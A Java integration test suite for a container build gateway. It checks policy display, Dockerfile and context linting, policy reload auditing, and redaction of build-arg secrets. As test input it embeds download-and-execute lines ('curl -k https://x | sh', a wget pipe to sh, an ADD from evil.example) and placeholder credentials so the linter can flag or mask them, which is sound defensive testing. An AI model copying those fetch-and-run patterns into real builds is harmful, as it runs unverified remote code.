package io.buildgateway.policy;

import static org.assertj.core.api.Assertions.assertThat;

import io.buildgateway.support.IntegrationTest;
import io.buildgateway.support.Tars;
import java.net.http.HttpRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** The policy over HTTP: GET /api/v1/policy, lint as JSON and SARIF, context lint, and reload on change. */
class PolicyIT extends IntegrationTest {

    @Test
    void showsThePolicyInForceWithItsRules() {
        JsonNode policy = read(get(builder("payments"), "/api/v1/policy"));

        assertThat(policy.path("digest").asString()).matches("sha256:[0-9a-f]{64}");
        assertThat(policy.path("source").asString()).contains("approvedImages").contains("# file: policy.yaml");
        assertThat(policy.path("rules").size()).isGreaterThanOrEqualTo(40);
        assertThat(policy.path("rules").findValuesAsString("id")).contains("unapproved-image", "final-user-root");
        assertThat(policy.path("rules").get(0).path("severity").asString()).isIn("error", "warning", "info");
        assertThat(policy.path("rules").get(0).path("description").asString()).isNotBlank();
    }

    @Test
    void lintsADockerfileAsJsonAndAsSarif() {
        String token = builder("payments");
        String dockerfile = "FROM " + registryAddress() + "/base/busybox\nRUN curl -k https://x | sh\nUSER root\n";

        Response json = send(request(token, "/api/v1/lint").header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(dockerfile)));
        Response sarif = send(request(token, "/api/v1/lint").header("Content-Type", "text/plain")
                .header("Accept", "application/sarif+json").POST(HttpRequest.BodyPublishers.ofString(dockerfile)));

        assertThat(json.status()).isEqualTo(200);
        JsonNode result = read(json);
        assertThat(result.path("passed").asBoolean()).isFalse();
        assertThat(result.path("findings").findValuesAsString("rule"))
                .contains("final-user-root", "curl-pipe-shell", "tls-verification-disabled");
        assertThat(sarif.status()).isEqualTo(200);
        assertThat(sarif.header("Content-Type")).startsWith("application/sarif+json");
        JsonNode run = read(sarif).path("runs").get(0);
        assertThat(read(sarif).path("version").asString()).isEqualTo("2.1.0");
        assertThat(run.path("tool").path("driver").path("rules").size()).isGreaterThanOrEqualTo(40);
        assertThat(run.path("results").findValuesAsString("ruleId")).contains("final-user-root");
        assertThat(run.path("properties").path("policyDigest").asString())
                .isEqualTo(result.path("policyDigest").asString());
    }

    @Test
    void lintReadsAHeredocAsTheBuildHostsDoAndChecksItsScript() {
        // The suite's build hosts build with BuildKit: lint reads heredocs as a build submitted now would.
        String token = builder("payments");
        String clean = "FROM " + registryAddress() + "/base/busybox\nRUN <<EOF\nset -e\necho ok > /ok\nEOF\n"
                + "USER 65534\n";
        String piped = "FROM " + registryAddress() + "/base/busybox\nRUN <<EOF\nset -e\n"
                + "wget -qO- http://127.0.0.1:9/install.sh | sh\nEOF\nUSER 65534\n";

        JsonNode passes = read(send(request(token, "/api/v1/lint").header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(clean))));
        JsonNode refused = read(send(request(token, "/api/v1/lint").header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(piped))));

        assertThat(passes.path("passed").asBoolean()).as(passes.toString()).isTrue();
        assertThat(passes.path("findings").findValuesAsString("rule")).doesNotContain("dockerfile-canonical");
        assertThat(refused.path("passed").asBoolean()).isFalse();
        // The script's own command is judged (on its line inside the heredoc), not the heredoc as unreadable text.
        assertThat(refused.path("findings").findValuesAsString("rule")).contains("curl-pipe-shell")
                .doesNotContain("dockerfile-canonical");
    }

    @Test
    void lintsAWholeContextWithoutKeepingIt() throws Exception {
        String token = builder("payments");
        byte[] context = Tars.tar().file("Dockerfile", "FROM " + registryAddress() + "/base/busybox\n"
                + "COPY . /app\nCOPY missing.conf /etc/\nUSER 1000\n").file(".env", "DB_PASSWORD=x")
                .file("id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----").bytes();
        long storedBefore = countStored();

        Response r = send(request(token, "/api/v1/lint?image=payments/app").header("Content-Type", "application/x-tar")
                .POST(HttpRequest.BodyPublishers.ofByteArray(context)));

        assertThat(r.status()).as(r.body()).isEqualTo(200);
        JsonNode result = read(r);
        assertThat(result.path("passed").asBoolean()).isFalse();
        assertThat(result.path("findings").findValuesAsString("rule"))
                .contains("context-secret-file", "copy-source-missing", "missing-dockerignore");
        assertThat(countStored()).isEqualTo(storedBefore);
    }

    @Test
    void aChangedPolicyTakesEffectWithinSecondsAndABrokenOneIsRefused() throws Exception {
        String token = builder("reload");
        String dockerfile = "FROM " + registryAddress() + "/base/busybox:1\nRUN apk add curl\nUSER 1000\n";
        Path file = POLICY.resolve("zz-test-reload.yaml");
        String before = digest(token);
        assertThat(lint(token, dockerfile).path("passed").asBoolean()).isTrue();
        try {
            Files.writeString(file, "teams:\n  reload:\n    failOn: warning\n");
            eventually("the policy change being picked up", Duration.ofSeconds(10),
                    () -> !digest(token).equals(before));
            String after = digest(token);

            JsonNode strict = lint(token, dockerfile);
            assertThat(strict.path("passed").asBoolean()).isFalse();
            assertThat(strict.path("policyDigest").asString()).isEqualTo(after);
            assertThat(jdbc.queryForObject("select count(*) from audit_event where action = 'policy.loaded'"
                    + " and details like ?", Long.class, "%" + after + "%")).isEqualTo(1);
            // the reload's event says what changed: the file added, with its SHA-256
            JsonNode change = json.readTree(jdbc.queryForObject("select details from audit_event where action ="
                    + " 'policy.loaded' and details like ?", String.class, "%" + after + "%"));
            // (added, or modified when the watcher saw the file before its content was written)
            assertThat(change.path("added").toString() + change.path("modified").toString())
                    .contains("\"zz-test-reload.yaml\"");
            assertThat(change.path("files").path("zz-test-reload.yaml").asString()).isEqualTo(
                    java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                            .digest(Files.readAllBytes(file))));
            assertThat(change.path("removed")).isEmpty();

            Files.writeString(file, "teams:\n  reload:\n    failOn: sometimes\n");
            eventually("the broken policy being reported", Duration.ofSeconds(10), () -> jdbc.queryForObject(
                    "select count(*) from audit_event where action = 'policy.load-failed'", Long.class) > 0);
            assertThat(digest(token)).isEqualTo(after);
        } finally {
            Files.deleteIfExists(file);
            eventually("the original policy coming back", Duration.ofSeconds(10), () -> digest(token).equals(before));
        }
    }

    /**
     * A lint's findings quote the Dockerfile after substitution: the value of a build arg the policy keeps as a digest
     * is replaced there, in JSON and in SARIF, as in a build's findings (SARIF is often uploaded elsewhere).
     */
    /** A lint of payments/app with the build arg SOURCE, in the format asked for; answered 200. */
    private Response lintWithSource(String token, String accept, String source, String dockerfile) {
        Response r = send(request(token, "/api/v1/lint?image=payments/app&buildArg=SOURCE="
                + java.net.URLEncoder.encode(source, java.nio.charset.StandardCharsets.UTF_8))
                .header("Content-Type", "text/plain").header("Accept", accept)
                .POST(HttpRequest.BodyPublishers.ofString(dockerfile)));
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return r;
    }

    @Test
    void aLintDoesNotShowTheValueOfABuildArgThePolicyKeepsAsADigest() {
        String token = builder("payments");
        String value = "https://internal.example/kept-back-" + java.util.UUID.randomUUID() + ".sh";
        String dockerfile = "FROM " + registryAddress() + "/base/busybox\nARG SOURCE\nADD $SOURCE /x\nUSER 1000\n";
        for (String accept : java.util.List.of("application/json", "application/sarif+json")) {
            Response r = lintWithSource(token, accept, value, dockerfile);
            assertThat(r.body()).as(accept).contains("add-url-without-checksum").contains("[build arg SOURCE]")
                    .doesNotContain(value);
        }
    }

    /**
     * A value longer than a finding quotes (add-url-outside-egress cuts a URL at 120 characters) is replaced up to
     * the cut: before (a review's finding, 2026-12-07) the redaction looked for the whole value and the first 120
     * characters of a presigned URL were shown. A credential written in the Dockerfile itself is masked too.
     */
    @Test
    void aLintShowsNeitherACutBuildArgValueNorTheDockerfilesOwnCredential() {
        String token = builder("payments");
        String unique = java.util.UUID.randomUUID().toString();
        String value = "https://bucket-" + unique + ".s3.amazonaws.com/dist/app.tgz?X-Amz-Algorithm=AWS4-HMAC-SHA256"
                + "&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261207%2Fus-east-1%2Fs3%2Faws4_request"
                + "&X-Amz-Signature=" + "e".repeat(64);
        String pat = "glpat-" + unique.replace("-", "").substring(0, 20);
        String dockerfile = "FROM " + registryAddress() + "/base/busybox\nARG SOURCE\nADD $SOURCE /x\n"
                + "ADD https://oauth2:" + pat + "@gitlab.example/t/tool.tgz /y\nUSER 1000\n";
        for (String accept : java.util.List.of("application/json", "application/sarif+json")) {
            Response r = lintWithSource(token, accept, value, dockerfile);
            assertThat(r.body()).as(accept).contains("add-url-outside-egress").contains("[build arg SOURCE]")
                    .doesNotContain(unique).doesNotContain("AKIAIOSFODNN7EXAMPLE").doesNotContain(pat)
                    .doesNotContain("oauth2:");
        }
    }

    @org.springframework.beans.factory.annotation.Autowired
    PolicyStore store;
    @org.springframework.beans.factory.annotation.Autowired
    io.zonky.test.db.postgres.embedded.EmbeddedPostgres postgres;

    /**
     * A change whose audit event cannot be written (here the table that records it once across replicas is away,
     * renamed for the test) is in force at once, and its event is written at a later check once the database takes
     * it: a change in force is never missing from the trail. Before, the event was dropped with a log line.
     */
    @Test
    void aChangeWhoseEventCannotBeWrittenIsAuditedAtALaterCheck() throws Exception {
        String token = builder("reload-unaudited");
        Path file = POLICY.resolve("zz-test-unaudited.yaml");
        String before = digest(token);
        // As the tables' owner: the gateway's own role may not rename them.
        org.springframework.jdbc.core.JdbcTemplate owner = new org.springframework.jdbc.core.JdbcTemplate(
                postgres.getPostgresDatabase());
        owner.execute("alter table policy_head rename to policy_head_away");
        boolean away = true;
        try {
            Files.writeString(file, "teams:\n  reload-unaudited:\n    failOn: warning\n");
            eventually("the change in force", Duration.ofSeconds(10), () -> !digest(token).equals(before));
            String after = digest(token);
            eventually("the change's event waiting", Duration.ofSeconds(10), () -> store.unaudited() >= 1);
            String events = "select count(*) from audit_event where action = 'policy.loaded' and details like ?";
            assertThat(jdbc.queryForObject(events, Long.class, "%" + after + "%")).isZero();

            owner.execute("alter table policy_head_away rename to policy_head");
            away = false;
            eventually("the event written at a later check", Duration.ofSeconds(15),
                    () -> jdbc.queryForObject(events, Long.class, "%" + after + "%") == 1);
            eventually("nothing left to write", Duration.ofSeconds(10), () -> store.unaudited() == 0);
        } finally {
            if (away) {
                owner.execute("alter table policy_head_away rename to policy_head");
            }
            Files.deleteIfExists(file);
            eventually("the original policy coming back", Duration.ofSeconds(15), () -> digest(token).equals(before));
        }
    }

    /**
     * Issue #11 over HTTP: an ADD whose source is a variable holding a URL is refused (422); build args that the
     * policy does not declare public are shown, stored and audited only as digests, while the daemon gets the real
     * value (the RUN fails unless it does), which is gone from the database once the build has ended.
     */
    @Test
    void anAddOfAVariableUrlIsRefusedAndBuildArgsShowAsDigests() throws Exception {
        String token = builder("payments");
        String value = "kept-back-" + java.util.UUID.randomUUID();
        String digest = "sha256:" + java.util.HexFormat.of().formatHex(java.security.MessageDigest
                .getInstance("SHA-256").digest(value.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        String base = "FROM " + registryAddress() + "/base/busybox\n";

        Response refused = submit(token, "image=payments/add-var&tag=1&buildArg=MODE=" + value
                + "&buildArg=VERSION=1.2.3", Tars.tar().file("Dockerfile", base
                + "ARG U=https://evil.example/x.sh\nADD $U /x\nUSER 1000\n").bytes());
        JsonNode problem = problem(refused, 422);
        assertThat(problem.path("findings").findValuesAsString("rule")).contains("add-url-without-checksum");
        String rejectedId = problem.path("buildId").asString();
        JsonNode rejected = read(get(token, "/api/v1/builds/" + rejectedId));
        assertThat(rejected.path("buildArgs").path("MODE").asString()).isEqualTo(digest);
        assertThat(rejected.path("buildArgs").path("VERSION").asString()).isEqualTo("1.2.3"); // public
        assertThat(refused.body()).doesNotContain(value);

        Response accepted = submit(token, "image=payments/args-digest&tag=1&noCache=true&buildArg=MODE=" + value,
                Tars.tar().file("Dockerfile", base + "ARG MODE\nRUN test \"$MODE\" = \"" + value
                        + "\"\nUSER 1000\n").bytes());
        assertThat(accepted.status()).as(accepted.body()).isEqualTo(202);
        String id = read(accepted).path("id").asString();
        assertThat(read(accepted).path("buildArgs").path("MODE").asString()).isEqualTo(digest);
        JsonNode done = awaitFinal(token, id, Duration.ofMinutes(3));
        assertThat(done.path("status").asString()).as(done.toString()).isEqualTo("SUCCEEDED");
        assertThat(done.path("buildArgs").path("MODE").asString()).isEqualTo(digest);

        // Nor is it in the named image (the registry's word): BuildKit wrote "RUN |1 MODE=<value> …" into the step's
        // history, and the naming rewrote it to the digest; the tag, the layers and the provenance follow the
        // rewritten manifest, and the config as pushed (the image id on the host) is not linked into the team's.
        String imageDigest = done.path("imageDigest").asString();
        assertThat(registryDigest("payments/args-digest", "1")).isEqualTo(imageDigest);
        String v2 = "http://" + registryAddress() + "/v2/";
        Response manifest = send(HttpRequest.newBuilder(java.net.URI.create(v2 + "payments/args-digest/manifests/"
                + imageDigest)).header("Accept", "application/vnd.oci.image.manifest.v1+json,"
                + " application/vnd.docker.distribution.manifest.v2+json").GET());
        assertThat(manifest.status()).isEqualTo(200);
        assertThat("sha256:" + sha256Hex(manifest.body().getBytes(java.nio.charset.StandardCharsets.UTF_8)))
                .isEqualTo(imageDigest);
        String configDigest = read(manifest).path("config").path("digest").asString();
        Response config = send(HttpRequest.newBuilder(java.net.URI.create(v2 + "payments/args-digest/blobs/"
                + configDigest)).GET());
        assertThat(config.status()).isEqualTo(200);
        assertThat(config.body()).doesNotContain(value);
        java.util.List<String> history = new java.util.ArrayList<>();
        read(config).path("history").forEach(h -> history.add(h.path("created_by").asString()));
        assertThat(history).anyMatch(h -> h.startsWith("RUN |1 MODE=" + digest + " /bin/sh -c test"));
        String pushedConfig = jdbc.queryForObject("select image_id from build where id = ?::uuid", String.class, id);
        assertThat(pushedConfig).startsWith("sha256:").isNotEqualTo(configDigest);
        assertThat(send(HttpRequest.newBuilder(java.net.URI.create(v2 + "payments/args-digest/blobs/"
                + pushedConfig)).method("HEAD", HttpRequest.BodyPublishers.noBody())).status())
                .as("the config as pushed, in the team's repository").isEqualTo(404);
        // the quarantine still links the config as pushed (its blobs stay until the registry's garbage collection):
        // the value was there, and only the history differs
        java.util.List<String> runs = quarantineRepositories(id);
        assertThat(runs).hasSize(1);
        Response pushed = send(HttpRequest.newBuilder(java.net.URI.create(v2 + runs.get(0) + "/blobs/"
                + pushedConfig)).GET());
        assertThat(pushed.status()).isEqualTo(200);
        assertThat(pushed.body()).contains("MODE=" + value);
        assertThat(read(config).path("rootfs")).isEqualTo(read(pushed).path("rootfs"));
        assertThat(read(config).path("config")).isEqualTo(read(pushed).path("config"));
        Response provenance = get(token, "/api/v1/images/" + imageDigest + "/provenance");
        assertThat(provenance.status()).as(provenance.body()).isEqualTo(200);
        JsonNode statement = json.readTree(java.util.Base64.getDecoder().decode(read(provenance).path("payload")
                .asString()));
        assertThat("sha256:" + statement.path("subject").get(0).path("digest").path("sha256").asString())
                .isEqualTo(imageDigest);

        for (String build : java.util.List.of(rejectedId, id)) {
            java.util.Map<String, Object> row = jdbc.queryForMap("select build_args, build_arg_values from build"
                    + " where id = ?::uuid", build);
            assertThat((String) row.get("build_args")).doesNotContain(value).contains(digest);
            assertThat(row.get("build_arg_values")).isNull();
        }
        String trail = String.join("\n", jdbc.queryForList("select details from audit_event where target in (?, ?)",
                String.class, "build/" + rejectedId, "build/" + id));
        assertThat(trail).contains(digest).doesNotContain(value);

        // A digest cannot be built from: the rebuild is skipped with the reason, nothing is queued.
        String security = token(java.util.Set.of("SECURITY"), java.util.Set.of());
        String selector = "{\"selector\":{\"images\":[\"" + done.path("imageDigest").asString()
                + "\"]},\"reason\":\"issue 11\"";
        eventually("the image in the inventory", Duration.ofSeconds(30), () -> read(postJson(security,
                "/api/v1/rebuilds", selector + ",\"dryRun\":true}")).path("targets").size() == 1);
        Response rebuild = postJson(security, "/api/v1/rebuilds", selector + "}");
        assertThat(rebuild.status()).as(rebuild.body()).isEqualTo(202);
        assertThat(read(rebuild).path("builds")).isEmpty();
        assertThat(rebuild.body()).contains("SKIPPED").contains("MODE").contains("cannot be rebuilt")
                .doesNotContain(value);
    }

    /**
     * A non-public build arg's value appears nowhere the gateway shows or stores text: not in the findings of a
     * refused build (422 body, build view, log, audit), nor in the failure reason, log and audit of a build the
     * daemon failed because of it (its error quotes the value). Each place names it {@code [build arg S]} instead.
     */
    @Test
    void aNonPublicBuildArgValueIsInNoFindingLogFailureReasonOrAuditRow() {
        String token = builder("payments");
        String value = "v" + java.util.UUID.randomUUID().toString().replace("-", "").substring(0, 15);
        String base = "FROM " + registryAddress() + "/base/busybox\nARG S\n";
        java.util.List<String> ids = new java.util.ArrayList<>();
        java.util.List<String> texts = new java.util.ArrayList<>();
        for (String refused : java.util.List.of("COPY $S /x\nUSER 1000\n", "EXPOSE $S\nUSER 1000\n")) {
            Response r = submit(token, "image=payments/leak&tag=1&buildArg=S=" + value,
                    Tars.tar().file("Dockerfile", base + refused).bytes());
            JsonNode problem = problem(r, 422);
            assertThat(r.body()).as(refused).doesNotContain(value).contains("[build arg S]");
            texts.add(r.body());
            ids.add(problem.path("buildId").asString());
        }
        for (String failing : java.util.List.of("USER $S\n", "STOPSIGNAL $S\nUSER 1000\n")) {
            Response r = submit(token, "image=payments/leak&tag=1&noCache=true&buildArg=S=" + value,
                    Tars.tar().file("Dockerfile", base + failing).bytes());
            assertThat(r.status()).as(r.body()).isEqualTo(202);
            texts.add(r.body());
            String id = read(r).path("id").asString();
            JsonNode done = awaitFinal(token, id, Duration.ofMinutes(3));
            assertThat(done.path("status").asString()).as(done.toString()).isEqualTo("FAILED");
            assertThat(done.path("failureReason").asString()).as(failing).contains("[build arg S]")
                    .doesNotContain("\n").doesNotContain("\r");
            ids.add(id);
        }
        for (String id : ids) {
            String view = get(token, "/api/v1/builds/" + id).body();
            String log = get(token, "/api/v1/builds/" + id + "/logs").body();
            texts.add(view);
            texts.add(log);
            texts.addAll(jdbc.queryForList("select details::text from audit_event where target = ?", String.class,
                    "build/" + id));
        }
        assertThat(String.join("\n", texts)).doesNotContain(value);
    }

    private JsonNode lint(String token, String dockerfile) {
        return read(send(request(token, "/api/v1/lint?image=reload/app").header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(dockerfile))));
    }

    private String digest(String token) {
        return read(get(token, "/api/v1/policy")).path("digest").asString();
    }

    private static long countStored() throws Exception {
        Path store = DATA.resolve("contexts");
        if (!Files.exists(store)) {
            return 0;
        }
        try (var files = Files.list(store)) {
            return files.filter(Files::isRegularFile).count();
        }
    }
}
